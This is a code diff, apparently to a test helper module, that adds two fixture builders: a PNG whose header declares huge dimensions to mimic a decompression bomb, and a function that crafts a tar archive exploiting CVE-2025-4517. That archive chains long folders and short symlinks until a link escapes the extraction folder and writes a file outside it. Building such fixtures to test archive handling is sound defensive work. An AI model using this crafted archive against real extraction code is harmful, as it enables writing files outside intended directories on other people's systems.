@@ -11,6 +11,7 @@ import pickle
 import struct
 import tarfile
 import zipfile
+import zlib
 from pathlib import Path
 from typing import Dict, List
 
@@ -65,10 +66,49 @@ def png_bytes(img: np.ndarray) -> bytes:
     return buf.getvalue()
 
 
+def png_header_only(width: int, height: int) -> bytes:
+    """A PNG whose header declares ``width`` x ``height`` grayscale pixels, with almost no data:
+    what a decompression bomb looks like to Pillow's ``open`` (which reads the header only)."""
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64))
+            + chunk(b"IEND", b""))
+
+
 def tar_folder(folder: Path, archive: Path) -> Path:
     with tarfile.open(archive, "w:gz") as tf:
         tf.add(folder, arcname=folder.name)
     return archive
+
+
+def cve_2025_4517_tar(path: Path, depth: int = 4, width: int = 200) -> Path:
+    """A ``.tgz`` in the pattern of CVE-2025-4517: nested folders with long names reached through
+    short symlinks, then links whose targets only leave the folder once the chain is resolved.
+    Every member passes a lexical check of its own path and link target; with enough depth the
+    real path passes PATH_MAX and Python's ``data`` filter (before 3.11.13) stops resolving it."""
+    with tarfile.open(path, "w:gz") as tf:
+        def add(name, payload=b"", link=None):
+            info = tarfile.TarInfo(name)
+            if link is None:
+                info.size = len(payload)
+                tf.addfile(info, io.BytesIO(payload))
+            else:
+                info.type, info.linkname = tarfile.SYMTYPE, link
+                tf.addfile(info)
+
+        lexical = ""
+        for i in range(depth):
+            short = chr(ord("a") + i)
+            add(f"{lexical}{short * width}/.keep")
+            add(f"{lexical}{short}", link=short * width)
+            lexical += f"{short}/"
+        # Lexically "<short links>/up/../.." stays inside; physically it leads out of the target.
+        add(f"{lexical}up", link="/".join([".."] * depth))
+        add("escape", link=lexical + "up/../..")
+        add("escape/owned.txt", b"written outside the target")
+    return path
 
 
 def zip_folder(folder: Path, archive: Path) -> Path:
